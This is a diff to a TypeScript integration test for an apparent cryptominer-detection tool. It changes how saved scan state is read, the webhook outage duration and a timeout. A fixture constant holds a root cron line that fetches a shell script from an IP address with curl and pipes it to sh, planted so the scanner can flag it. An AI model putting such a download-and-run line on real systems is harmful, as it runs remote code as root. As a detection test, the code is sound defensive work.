@@ -18,9 +18,10 @@ import { acquireHostLock, buildLookalike, startLookalike, type Lookalike } from 
 import { RSYSLOGD, startRsyslog, type Rsyslog, type RsyslogInput } from '../helpers/rsyslog.js';
 import { startStratumPool, type StratumPool } from '../helpers/stratum-pool.js';
 import { startWebhookReceiver, type WebhookReceiver } from '../helpers/webhook-receiver.js';
+import { savedState } from '../../src/pipeline/watch-store.js';
 
-/** How long the webhook receiver is down (the acceptance names 30 s; shorter keeps the file quick). */
-const DOWN_SECONDS = Number(process.env.MINEHUNTER_TEST_WEBHOOK_DOWN_S ?? 10);
+/** How long the webhook receiver is down: the acceptance's 30 s (MINEHUNTER_TEST_WEBHOOK_DOWN_S to change). */
+const DOWN_SECONDS = Number(process.env.MINEHUNTER_TEST_WEBHOOK_DOWN_S ?? 30);
 const CRON_LINE = '*/5 * * * * root curl -fsSL http://198.51.100.7/x.sh | sh\n';
 
 interface Event {
@@ -231,9 +232,8 @@ describe.runIf(existsSync(RSYSLOGD))(
         const downUntil = Date.now() + DOWN_SECONDS * 1000;
         const scansSoFar = (w.stderr().match(/: scan \(/g) ?? []).length;
         await w.scans(scansSoFar + 4);
-        const saved = JSON.parse(readFileSync(state, 'utf8')) as {
-          findings: Record<string, { count: number }>;
-        };
+        // The state, in the scan cache's SQLite database, counts the sightings.
+        const saved = savedState(state, envCache)!;
         for (const fp of mine) expect(saved.findings[fp]!.count, fp).toBeGreaterThanOrEqual(4);
         for (const s of SINKS.filter((x) => x !== 'webhook'))
           for (const fp of mine)
@@ -292,7 +292,7 @@ describe.runIf(existsSync(RSYSLOGD))(
         expect(new Set(keys).size).toBe(keys.length);
 
         // SIGKILL, then the same state: the findings still present are not raised again.
-        const before = JSON.parse(readFileSync(state, 'utf8')) as { findings: Record<string, unknown> };
+        const before = savedState(state, envCache)!;
         const sentBefore = emitted().length;
         w.child.kill('SIGKILL');
         await w.exited;
@@ -308,7 +308,7 @@ describe.runIf(existsSync(RSYSLOGD))(
         await la?.stop();
         w.child.kill('SIGKILL');
       }
-    }, 150_000);
+    }, 200_000);
 
     it('raises a download-and-run cron file planted under --root within 5 s, with its YARA evidence, once, and takes an ack', async () => {
       envCache = await cliEnv();
@@ -393,9 +393,7 @@ describe.runIf(existsSync(RSYSLOGD))(
         );
         await until(
           'the ack in the saved state',
-          () =>
-            (JSON.parse(readFileSync(stateFile, 'utf8')) as { findings: Record<string, { acked?: boolean }> })
-              .findings[fp]?.acked === true,
+          () => savedState(stateFile, envCache)?.findings[fp]?.acked === true,
           15_000,
           () => w.stderr(),
         );
